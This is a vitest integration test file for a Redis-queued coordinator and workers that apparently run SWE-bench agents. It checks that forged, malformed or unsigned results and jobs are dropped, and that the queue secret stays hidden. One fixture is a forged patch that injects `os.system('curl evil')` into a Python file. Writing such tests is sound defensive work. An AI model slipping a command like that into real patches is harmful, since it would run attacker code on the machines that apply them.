import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import {
  INSTANCE_QUEUE,
  instanceJobId,
  resultsQueueName,
  WORKER_INFO_KEY,
  WORKERS_KEY,
} from "../../src/distributed/keys.js";
import { type FakeLlmServer, startFakeLlmServer } from "../../src/testing/fake-llm-server.js";
import {
  addInstanceJob,
  type CliProcess,
  coordinatorJobConfig,
  freePort,
  jobEnd,
  killStarted,
  patchloop,
  queueOn,
  REDIS_SERVER,
  TestRedis,
  until,
} from "../distributed/helpers.js";
import { buildFixtureInstances, type FixtureInstances, stepwiseReply } from "../support/fixture-instances.js";

/**
 * Someone who can write to Redis sends a coordinator results of their own: a well-formed one for an
 * instance it waits for (a patch of theirs in preds.json), a malformed one (it stopped the run), and
 * junk. The coordinator checks each against the jobs it sent and the deliveries workers started; what
 * fails is logged and dropped, and the workers' real results are recorded. With a shared secret
 * (run.queue.secret_env) a result must also carry the worker's signature, and a worker runs only
 * jobs the coordinator signed.
 */

const readJson = <T>(path: string): T => JSON.parse(readFileSync(path, "utf8")) as T;
const FORGED_PATCH = "diff --git a/pkg0/op1.py b/pkg0/op1.py\n+import os; os.system('curl evil')\n";
const SECRET = "queue-SECRET-2b7e151628aed2a6abf7158809cf4f3c";

/** A result as a worker sends it, for `id`, claiming `delivery`. */
function forgedResult(
  run: string,
  id: string,
  delivery: string,
  change: (r: Record<string, unknown>) => void = () => {},
) {
  const now = new Date().toISOString();
  const outcome: Record<string, unknown> = {
    instance_id: id,
    exit_status: "Submitted",
    exit_message: "submitted",
    patch_bytes: FORGED_PATCH.length,
    api_calls: 1,
    cost: 0,
    prompt_tokens: 10,
    completion_tokens: 10,
    started_at: now,
    ended_at: now,
    environment_seconds: 0,
    agent_seconds: 0,
    seconds: 1,
    patch: FORGED_PATCH,
    worker: "evil:1:x",
    delivery,
  };
  change(outcome);
  return {
    run,
    result: {
      outcome,
      files: { [`${id}.traj.json`]: "{}\n" },
      worker: { id: "evil:1:x", host: "evil", pid: 1 },
    },
  };
}

describe.skipIf(!REDIS_SERVER)("forged and malformed results against a coordinator", () => {
  let root: string;
  let f: FixtureInstances;
  let redis: TestRedis;
  let model: FakeLlmServer;
  const started: CliProcess[] = [];

  beforeAll(async () => {
    root = mkdtempSync(join(tmpdir(), "patchloop-qres-"));
    f = buildFixtureInstances(root, { count: 2, repos: 1 });
    mkdirSync(join(root, "redis"));
    redis = new TestRedis(join(root, "redis"), await freePort(), true);
    await redis.start();
    model = await startFakeLlmServer({
      record: false,
      defaultBehaviour: stepwiseReply(1500),
    });
  });
  afterEach(async () => {
    await killStarted(started);
  });
  afterAll(async () => {
    await model?.close();
    await redis?.stop();
    rmSync(root, { recursive: true, force: true });
  });

  const spawn = (args: string[], env: NodeJS.ProcessEnv = process.env) => {
    const p = patchloop(args, env);
    started.push(p);
    return p;
  };
  const coordinator = (out: string, extra: string[] = [], env?: NodeJS.ProcessEnv) =>
    spawn(
      [
        "swebench",
        "--subset",
        f.datasetPath,
        "-m",
        "openai/fake",
        "--base-url",
        `${model.url}/v1`,
        "--environment",
        "local",
        "-o",
        out,
        "--queue",
        redis.url,
        ...extra,
      ],
      env,
    );
  const worker = (extra: string[] = [], env?: NodeJS.ProcessEnv) =>
    spawn(
      [
        "worker",
        "--queue",
        redis.url,
        "-w",
        "2",
        "--environment",
        "local",
        "--repos-dir",
        f.reposDir,
        "--base-url",
        `${model.url}/v1`,
        "--spool",
        join(root, `spool-${started.length}`),
        ...extra,
      ],
      env,
    );
  /** The run id a coordinator prints once it has enqueued. */
  const runOf = async (boss: CliProcess) => {
    let run = "";
    await until("the coordinator names its run (or stops)", () => {
      run = /: run (\S+) \(patchloop queue status/.exec(boss.out() + boss.err())?.[1] ?? "";
      return run !== "" || boss.proc.exitCode !== null;
    });
    expect([run !== "", boss.err()]).toEqual([true, boss.err()]);
    return run;
  };
  const sendResult = async (run: string, jobId: string, data: unknown) => {
    const q = queueOn(redis, resultsQueueName(run));
    await q.add("result", data, { jobId, attempts: 1 });
    await q.close();
  };
  const resultsConsumed = async (run: string) => {
    const q = queueOn(redis, resultsQueueName(run));
    await until("the coordinator has taken every result sent", async () => {
      const c = await q.getJobCounts("waiting", "active", "delayed", "prioritized");
      return Object.values(c).every((n) => n === 0);
    });
    await q.close();
  };

  it("a forged result for a waiting instance, a malformed one, junk and junk heartbeats are dropped; the real results are recorded", async () => {
    // Heartbeats of workers that are not (the coordinator lists the workers from them).
    const later = String(Date.now() + 3_600_000);
    redis.cli("ZADD", WORKERS_KEY, later, "forged-a", later, "forged-b", later, "forged-c");
    redis.cli("HSET", WORKER_INFO_KEY, "forged-a", "null", "forged-b", '{"pid":1}', "forged-c", "[");
    const out = join(root, "plain");
    const boss = coordinator(out);
    const run = await runOf(boss);
    const [a, b] = f.rows.map((r) => r.instance_id);
    const instances = queueOn(redis, INSTANCE_QUEUE);
    await until("both jobs are in the queue", async () => {
      const states = await Promise.all([a, b].map((id) => instances.getJobState(instanceJobId(run, id))));
      return states.every((s) => s === "waiting");
    });
    await instances.close();
    const deliveryA = `${instanceJobId(run, a)}.0123456789ab`;
    await sendResult(run, "forged-1", forgedResult(run, a, deliveryA));
    await sendResult(
      run,
      "forged-2",
      forgedResult(run, b, `${instanceJobId(run, b)}.0123456789ab`, (o) => {
        o.cost = "lots";
      }),
    );
    await sendResult(run, "forged-3", null);
    await sendResult(run, "forged-4", forgedResult("another-run", b, `another-run.${b}.0123456789ab`));
    await resultsConsumed(run);
    expect(boss.proc.exitCode).toBe(null);

    const w = worker();
    const ended = await boss.done;
    expect([ended.code, boss.err().slice(-1500)]).toEqual([0, expect.any(String)]);
    const preds = readJson<Record<string, { model_patch: string }>>(join(out, "preds.json"));
    for (const row of f.rows) expect(preds[row.instance_id].model_patch).toBe(row.patch);
    const runs = readJson<{ instances: Record<string, { worker?: string }> }>(join(out, "run.json"));
    for (const row of f.rows) expect(runs.instances[row.instance_id].worker).not.toBe("evil:1:x");
    const log = readFileSync(join(out, "run.log"), "utf8");
    expect(log).toContain(
      `${a}: a result of delivery ${deliveryA} was dropped: no worker started that delivery of its job`,
    );
    expect(log).toContain(
      'queue: a result was dropped (result job "forged-2"): it is not a result of this patchloop ' +
        "(result.outcome.cost: Invalid input: expected number, received string)",
    );
    expect(log).toContain(
      'queue: a result was dropped (result job "forged-3"): it is not a result of this patchloop',
    );
    expect(log).toContain(
      `queue: a result was dropped (result job "forged-4"): it belongs to run "another-run", not ${run}`,
    );
    w.proc.kill("SIGTERM");
    expect((await w.done).code).toBe(0);
    const status = patchloop(["queue", "status", "--queue", redis.url]);
    expect((await status.done).code).toBe(0);
    expect(status.out()).toContain("workers: 0");
    redis.cli("DEL", WORKERS_KEY, WORKER_INFO_KEY);
  }, 180_000);

  it("with run.queue.secret_env: a forged result of a started delivery is dropped, and an unsigned job is refused", async () => {
    const env = { ...process.env, PLTEST_QUEUE_SECRET: SECRET };
    const signed = ["-c", "run.queue.secret_env=PLTEST_QUEUE_SECRET"];
    const out = join(root, "signed");
    const boss = coordinator(out, signed, env);
    const run = await runOf(boss);
    const w = worker(signed, env);
    // Issue 41, finding 13: the secret stayed readable in /proc/<pid>/environ, where a `local`
    // job's commands (the worker's user) could read it.
    await until("the worker registers", () => / slot\(s\), environment local/.test(w.err()));
    const environ = readFileSync(`/proc/${w.proc.pid}/environ`, "latin1");
    expect(environ).not.toContain(SECRET);
    expect(environ.split("\0")).toContain(`PLTEST_QUEUE_SECRET=${"*".repeat(SECRET.length)}`);
    const a = f.rows[0].instance_id;
    const jobA = instanceJobId(run, a);
    // The delivery a worker started is in Redis (the job's log): a forger can name it.
    const instances = queueOn(redis, INSTANCE_QUEUE);
    let delivery = "";
    await until("a worker started the first instance", async () => {
      const { logs } = await instances.getJobLogs(jobA);
      delivery = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
      return delivery !== "";
    });
    await instances.close();
    await sendResult(run, "forged-signed", { ...forgedResult(run, a, delivery), sig: "0".repeat(64) });
    // A job of the forger's own, unsigned, on the same queue.
    const crafted = await addInstanceJob(redis, {
      run: "crafted-run",
      row: f.rows[1],
      config: coordinatorJobConfig(["model.model_name=openai/fake", "environment.environment_class=local"]),
    });
    const refused = await jobEnd(redis, INSTANCE_QUEUE, crafted);
    expect(refused).toEqual({
      state: "failed",
      failedReason:
        "refused: the job carries no signature, and this worker runs only signed jobs (run.queue.secret_env " +
        "PLTEST_QUEUE_SECRET); its coordinator must set run.queue.secret_env to a variable holding the same secret",
    });

    expect((await boss.done).code).toBe(0);
    const preds = readJson<Record<string, { model_patch: string }>>(join(out, "preds.json"));
    for (const row of f.rows) expect(preds[row.instance_id].model_patch).toBe(row.patch);
    expect(readFileSync(join(out, "run.log"), "utf8")).toContain(
      'queue: a result was dropped (result job "forged-signed"): its signature does not match ' +
        "(run.queue.secret_env PLTEST_QUEUE_SECRET): it was not made by a worker with this run's secret, or was changed since",
    );
    w.proc.kill("SIGTERM");
    expect((await w.done).code).toBe(0);
    // The secret itself never went into Redis.
    const aofDir = join(redis.dir, "appendonlydir");
    const stored = readdirSync(aofDir)
      .map((n) => readFileSync(join(aofDir, n), "latin1"))
      .join("");
    expect(stored).toContain("PLTEST_QUEUE_SECRET");
    expect(stored).not.toContain(SECRET);
  }, 180_000);
  it("with run.queue.secret_env: a forged result parked under a started delivery's id does not block the real one", async () => {
    // Issue 41, finding 8: BullMQ adds nothing under a taken job id, so a forged result sent first
    // under the delivery's id (delayed, so that it never runs) stood in for the worker's real one,
    // which was never sent again: the run waited forever, and a resume too.
    const env = { ...process.env, PLTEST_QUEUE_SECRET: SECRET };
    const signed = ["-c", "run.queue.secret_env=PLTEST_QUEUE_SECRET"];
    const out = join(root, "parked");
    const boss = coordinator(out, signed, env);
    const run = await runOf(boss);
    const w = worker(signed, env);
    const instances = queueOn(redis, INSTANCE_QUEUE);
    const results = queueOn(redis, resultsQueueName(run));
    const parked: string[] = [];
    for (const row of f.rows) {
      let delivery = "";
      await until(`a worker started ${row.instance_id}`, async () => {
        const { logs } = await instances.getJobLogs(instanceJobId(run, row.instance_id));
        delivery = logs.map((l) => /^start (\S+)/.exec(l)?.[1]).find((x) => x !== undefined) ?? "";
        return delivery !== "";
      });
      const forged = { ...forgedResult(run, row.instance_id, delivery), sig: "0".repeat(64) };
      await results.add("result", forged, { jobId: delivery, attempts: 1, delay: 1e9 });
      parked.push(delivery);
    }
    await instances.close();
    expect((await boss.done).code).toBe(0);
    const preds = readJson<Record<string, { model_patch: string }>>(join(out, "preds.json"));
    for (const row of f.rows) expect(preds[row.instance_id].model_patch).toBe(row.patch);
    expect(
      w.err().match(/a result under "[^\n]+" was not this worker's: it was removed, and the real one sent/g),
    ).toHaveLength(parked.length);
    await results.close();
    w.proc.kill("SIGTERM");
    expect((await w.done).code).toBe(0);
  }, 180_000);
});
